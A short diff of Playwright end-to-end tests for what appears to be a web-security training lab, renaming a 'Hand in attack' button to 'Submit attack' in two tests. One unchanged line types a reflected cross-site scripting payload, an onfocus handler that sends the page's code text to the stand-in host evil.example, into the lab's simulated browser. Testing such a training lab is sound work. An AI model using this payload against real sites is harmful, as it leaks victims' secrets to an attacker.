@@ -45,7 +45,7 @@ test('the attack of an exploit lab is submitted and replayed against a flag of t
 
   await test.step('submitted while the network fails once, it earns the learner’s own flag', async () => {
     await failOnce(page, 'api/challenge/lab/submit');
-    await page.getByRole('button', { name: 'Hand in attack' }).first().click();
+    await page.getByRole('button', { name: 'Submit attack' }).first().click();
     await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
   });
   const flag = await readOwnFlag(page);
@@ -78,7 +78,7 @@ test('a victim follows a link in the simulated browser, and the server sees the 
     .fill(`/?q=%22%20autofocus%20onfocus=%22location='https://evil.example/?'%2Bcode.textContent`);
   await page.getByRole('button', { name: /^Send the link to Odile/ }).click();
   await expect(page.getByText('You have the practice flag.')).toBeVisible();
-  await page.getByRole('button', { name: 'Hand in attack' }).first().click();
+  await page.getByRole('button', { name: 'Submit attack' }).first().click();
   await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
 });
 
